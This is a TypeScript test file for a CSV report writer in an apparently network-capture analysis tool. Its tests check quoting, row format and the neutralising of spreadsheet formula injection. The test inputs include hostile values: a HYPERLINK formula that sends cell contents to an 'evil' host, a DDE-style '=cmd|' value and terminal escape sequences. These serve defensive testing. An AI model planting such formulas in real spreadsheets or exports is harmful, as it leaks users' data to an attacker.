import { describe, expect, it } from 'vitest';
import { csvField, csvHeader, csvRow, renderCsv } from '../../src/render/format-csv.js';
import { corpusReport, everyVerdict, HOSTILE_FILE, record, report } from './fixtures.js';

/** An RFC 4180 reader, written independently of the writer: fields, quoted fields with "" and CRLF inside. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let field = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const c = text[i];
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') {
        field += '"';
        i++;
      } else if (c === '"') quoted = false;
      else field += c;
    } else if (c === '"') quoted = true;
    else if (c === ',') {
      row.push(field);
      field = '';
    } else if (c === '\r' && text[i + 1] === '\n') {
      row.push(field);
      rows.push(row);
      row = [];
      field = '';
      i++;
    } else field += c;
  }
  expect(quoted).toBe(false);
  expect(field).toBe('');
  return rows;
}

describe('renderCsv', () => {
  it('writes a header and one CRLF-terminated row per connection, all with the same columns', () => {
    const r = corpusReport();
    const text = renderCsv(r);
    expect(text.endsWith('\r\n')).toBe(true);
    expect(text.replace(/\r\n/g, '')).not.toMatch(/\n/);
    const rows = parseCsv(text);
    expect(rows.length).toBe(r.connections.length + 1);
    expect(rows[0].slice(0, 6)).toEqual(['file', 'stream', 'client', 'server', 'roleInferred', 'verdict']);
    for (const row of rows) expect(row.length).toBe(rows[0].length);
  });

  it('round-trips every field through a CSV reader, hostile text made safe', () => {
    const files = [HOSTILE_FILE, 'comma,quote"and\r\nnewline.pcap', '=cmd|x.pcap'];
    const records = files.map((file, i) => record({ file, stream: i, explanation: `said "${file}", then left` }));
    const rows = parseCsv(renderCsv(report(records)));
    const header = rows[0];
    const col = (name: string): number => header.indexOf(name);
    // What a spreadsheet must show: controls made visible (one line per row), formulas disarmed.
    const shown = [HOSTILE_FILE, 'comma,quote"and\\x0d\\x0anewline.pcap', "'=cmd|x.pcap"];
    records.forEach((r, i) => {
      const row = rows[i + 1];
      expect(row[col('file')]).toBe(shown[i]);
      expect(row[col('explanation')]).toBe(`said "${shown[i].replace(/^'/, '')}", then left`);
      expect(row[col('stream')]).toBe(String(r.stream));
      expect(row[col('stuckSeconds')]).toBe('41');
      expect(row[col('delaySeconds')]).toBe('');
      expect(row[col('roleInferred')]).toBe('false');
      expect(row[col('evidence')]).toBe('5 6');
      expect(row[col('fins')]).toBe('5:client:6');
      expect(row[col('bytesServer')]).toBe('20');
      expect(row[col('stateServer')]).toBe('CLOSE_WAIT');
    });
    expect(header).not.toContain('ladder');
  });

  it('flattens FINs, RSTs and ICMP errors', () => {
    const r = record({
      fins: [
        { frame: 5, from: 'client', time: 't', ackFrame: null, retransmission: false },
        { frame: 9, from: 'client', time: 't', ackFrame: null, retransmission: true },
      ],
      resets: [{ frame: 12, from: 'server', time: 't', shape: 'passive', seq: 1, ack: null, window: 0, ttl: 64, ipId: 0 }],
      icmpErrors: [{ frame: 3, time: 't', about: 'client', type: 3, code: 3, description: 'port unreachable', reporter: '10.0.0.9' }],
    });
    const [header, row] = parseCsv(csvHeader() + csvRow(r));
    expect(row[header.indexOf('fins')]).toBe('5:client:;9:client::retransmission');
    expect(row[header.indexOf('resets')]).toBe('12:server:passive');
    expect(row[header.indexOf('icmpErrors')]).toBe('3:client:3/3');
  });

  it('disarms cells a spreadsheet would run as a formula (OWASP CSV injection) and shows control bytes', () => {
    for (const start of ['=', '+', '-', '@']) expect(csvField(`${start}HYPERLINK("http://x/")`)).toBe(`"'${start}HYPERLINK(""http://x/"")"`);
    // Tab and CR become visible escapes first, so they no longer lead the cell.
    expect(csvField('\t=1+1')).toBe('\\x09=1+1');
    expect(csvField('\r=1+1')).toBe('\\x0d=1+1');
    expect(csvField('a\x1b[31mb\x07')).toBe('a\\x1b[31mb\\x07');
    // Plain text, numbers and the null mark stay as they are.
    for (const plain of ['capture.pcap', '-', '-12', '+3.5', 'a=b']) expect(csvField(plain)).toBe(plain);
    const row = csvRow(record({ file: '=HYPERLINK("http://evil/?"&A1,"x").pcap' }));
    expect(row.startsWith(`"'=HYPERLINK(`)).toBe(true);
  });

  it('streams: csvHeader plus csvRow per record is the whole report', () => {
    const r = report(everyVerdict());
    expect(csvHeader() + r.connections.map(csvRow).join('')).toBe(renderCsv(r));
  });

  it('writes numbers plainly and null as nothing', () => {
    expect(csvField(1e-7)).toBe('0.0000001');
    expect(csvField(11.207962572)).toBe('11.207962572');
    expect(csvField(1e21)).toBe('1000000000000000000000');
    expect(csvField(null)).toBe('');
    expect(csvField(true)).toBe('true');
    expect(csvField('a"b')).toBe('"a""b"');
  });
});
